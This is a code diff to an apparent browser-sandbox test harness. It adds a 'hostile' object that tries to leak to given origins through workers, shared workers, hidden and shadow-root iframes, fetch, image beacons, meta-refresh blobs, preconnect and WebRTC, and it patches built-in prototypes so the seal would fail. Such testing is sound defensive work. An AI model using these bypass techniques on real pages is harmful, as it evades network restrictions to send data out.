@@ -63,6 +63,62 @@
     anchor: url => element('a', { href: url }).click(),
     download: url => element('a', { href: url, download: 'x' }).click(),
     refresh: url => element('meta', { httpEquiv: 'refresh', content: `0; url=${url}` }),
+    // As a file that is saved, and at once as a page.
+    blobSaved: url => {
+      const link = element('a', { href: page(`<meta http-equiv="refresh" content="0; url=${url}">`), download: 'x' });
+      link.click();
+      location.href = link.href;
+    },
+    blobPage: url => (location.href = page(`<meta http-equiv="refresh" content="0; url=${url}">`)),
+  };
+  const page = html => URL.createObjectURL(new Blob([html], { type: 'text/html' }));
+
+  /** What is made before the seal, to be used after it, and what is changed so that the seal would fail. */
+  const early = [];
+  const prepare = {
+    worker: () => {
+      const worker = new Made(blob(own));
+      early.push((to, way) => worker.postMessage({ hostile: [to], when: way }));
+    },
+    sharedWorker: () => {
+      const text = 'onconnect = ({ ports: [port] }) => (port.onmessage = ({ data }) => fetch(data))';
+      const { port } = new SharedWorker(blob(text));
+      early.push((to, way) => port.postMessage(`${to}/leak/${way}`));
+    },
+    frame: () => {
+      const inner = element('iframe', {}).contentWindow;
+      const { fetch, Image } = inner;
+      early.push((to, way) => fetch.call(inner, `${to}/leak/${way}`));
+      early.push((to, way) => (new Image().src = `${to}/leak/${way}-image`));
+    },
+    frameOfRoot: () => {
+      const inner = document.documentElement.appendChild(document.createElement('iframe')).contentWindow;
+      early.push((to, way) => inner.fetch(`${to}/leak/${way}`));
+    },
+    frameWorker: () => {
+      const inner = element('iframe', {}).contentWindow;
+      const worker = new inner.Worker(blob(own));
+      early.push((to, way) => worker.postMessage({ hostile: [to], when: way }));
+    },
+    hiddenFrame: () => {
+      // With the functions of a frame, which nobody has changed.
+      const { attachShadow } = element('iframe', {}).contentWindow.Element.prototype;
+      const root = attachShadow.call(element('div', {}), { mode: 'closed' });
+      const inner = root.appendChild(document.createElement('iframe')).contentWindow;
+      early.push((to, way) => inner.fetch(`${to}/leak/${way}`));
+    },
+    listener: () => {
+      for (const capture of [true, false]) globalThis.navigation.addEventListener('navigate', event => event.stopImmediatePropagation(), capture);
+    },
+    originals: () => {
+      Event.prototype.preventDefault = () => {};
+      Object.defineProperty(globalThis, 'navigation', { value: new EventTarget() });
+      Object.defineProperty(Event.prototype, 'cancelable', { get: () => false });
+      globalThis.fetch = () => Promise.reject(new TypeError());
+      Document.prototype.createElement = new Proxy(Document.prototype.createElement, {
+        apply: (make, on, [name]) => make.call(on, name === 'meta' ? 'div' : name),
+      });
+    },
   };
 
   const attempt = async (ways, where, to) => {
@@ -96,6 +152,47 @@
   };
   globalThis.hostile = {
     ways: Object.keys({ ...anywhere, ...pageOnly }),
+    /** All that can be made now; gives the names of what could not. */
+    prepare(left = []) {
+      const ways = Object.entries(prepare).filter(([way]) => !left.includes(way));
+      return ways.filter(([, make]) => {
+        try {
+          make();
+          return false;
+        } catch {
+          return true;
+        }
+      }).map(([way]) => way);
+    },
+    useEarly(origins) {
+      for (const to of origins) {
+        early.forEach((use, index) => {
+          try {
+            Promise.resolve(use(to, `early-${index}`)).catch(() => {});
+          } catch {
+            // It has ended.
+          }
+        });
+      }
+    },
+    /** What the browser would send along with a request of its own. */
+    async cookie() {
+      document.cookie = 'leak=cookie';
+      await globalThis.cookieStore?.set('leak', 'store').catch(() => {});
+      const registration = await navigator.serviceWorker?.getRegistration();
+      await registration?.navigationPreload?.setHeaderValue('leak').catch(() => {});
+      await registration?.navigationPreload?.enable().catch(() => {});
+      await registration?.update().catch(() => {});
+    },
+    /** Connections without a request: early ones, and WebRTC. */
+    connect(to, udp) {
+      element('link', { rel: 'preconnect', href: to });
+      element('link', { rel: 'dns-prefetch', href: to });
+      const Connection = globalThis.RTCPeerConnection ?? globalThis.keptConnection;
+      const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
+      connection.createDataChannel('leak');
+      connection.createOffer().then(offer => connection.setLocalDescription(offer)).catch(() => {});
+    },
     workers,
     attack(origins, when) {
       for (const worker of workers) worker.postMessage({ hostile: origins, when });
